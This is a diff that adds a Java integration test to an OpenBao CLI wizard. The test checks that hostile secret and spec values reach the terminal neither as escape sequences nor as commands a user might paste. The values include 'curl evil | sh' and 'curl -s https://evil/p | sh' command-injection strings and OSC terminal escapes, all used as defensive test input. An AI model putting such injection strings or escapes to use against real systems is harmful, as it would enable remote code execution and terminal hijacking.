@@ -540,6 +540,47 @@ class OpenBaoWizardIT {
   }
 
   @Test
+  void hostileSpecAndSecretValuesReachTheTerminalNeitherAsEscapesNorAsCommandsToPaste() {
+    CliHarness.Result first = fixture.runWithRootToken(new CliHarness(), "bao");
+    assertThat(first.exitCode()).as(first.toString()).isZero();
+    client
+        .secrets()
+        .inNamespace(fixture.namespace)
+        .withName("bao-token")
+        .edit(
+            s ->
+                new SecretBuilder(s)
+                    .editMetadata()
+                    .addToAnnotations(
+                        TokenSecretBinding.ADDRESS_ANNOTATION,
+                        "https://evil\u001b]52;c;ZXZpbA==\u0007.example:8200")
+                    .endMetadata()
+                    .addToStringData("accessor", "a'; curl evil | sh; '")
+                    .build());
+    String hostileRole = "x; curl -s https://evil/p | sh #\u001b]0;owned\u0007";
+    tuneRotation("24h", "10m", "2m");
+    client
+        .resources(SecretBackend.class)
+        .inNamespace(fixture.namespace)
+        .withName("bao")
+        .edit(
+            backend -> {
+              backend.getSpec().getOpenbao().getAuth().getRotation().setTokenRole(hostileRole);
+              return backend;
+            });
+
+    CliHarness.Result rerun = fixture.runWithRootToken(new CliHarness(), "bao");
+
+    assertThat(rerun.exitCode()).as(rerun.toString()).isZero();
+    String printed = rerun.stdout() + rerun.stderr();
+    assertThat(printed).doesNotContainPattern("[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f]");
+    assertThat(printed).doesNotContain("curl").doesNotContain("no longer uses");
+    assertThat(rerun.stderr())
+        .contains("held tokens for OpenBao at https://evil?]52;c;ZXZpbA==?.example:8200")
+        .doesNotContain("-accessor");
+  }
+
+  @Test
   void aPathPrefixWithWhitespaceIsAUsageErrorBeforeAnythingIsContacted() {
     CliHarness.Result result =
         fixture.runWithRootToken(new CliHarness(), "bao", "--path-prefix", "a b");
